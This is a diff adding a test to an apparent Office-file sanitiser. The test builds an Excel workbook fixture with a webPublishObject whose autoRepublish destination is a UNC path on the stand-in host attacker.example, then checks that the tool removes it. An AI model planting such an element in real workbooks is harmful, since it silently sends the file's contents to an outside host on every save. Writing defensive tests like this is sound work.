@@ -175,3 +175,24 @@ def test_macro_action_on_an_external_link_goes_with_macros(tmp_path: Path) -> No
     result, dest = disarm(path, tmp_path, switches("sanitise", external_hyperlinks="allow"))
     assert result.outcome == "rebuilt", result
     assert b"ppaction://macro" not in zipfile.ZipFile(dest).read("ppt/slides/slide1.xml")
+
+
+def test_web_publishing_destination_is_removed(tmp_path: Path) -> None:
+    """Excel writes the workbook to destinationFile on every save (autoRepublish)."""
+
+    def publish(workbook: bytes) -> bytes:
+        return workbook.replace(
+            b"</workbook>",
+            b'<webPublishObjects count="1"><webPublishObject id="1" divId="d" '
+            b'destinationFile="\\\\attacker.example\\share\\p.htm" autoRepublish="1"/>'
+            b"</webPublishObjects></workbook>",
+        )
+
+    path = _write(tmp_path, "in.xlsx", rezip(_xlsx_formula("A1"), {"xl/workbook.xml": publish}))
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
+    workbook = zipfile.ZipFile(dest).read("xl/workbook.xml")
+    assert b"attacker.example" not in workbook and b"webPublishObjects" not in workbook
+    import openpyxl
+
+    openpyxl.load_workbook(dest)  # still a workbook a reader opens
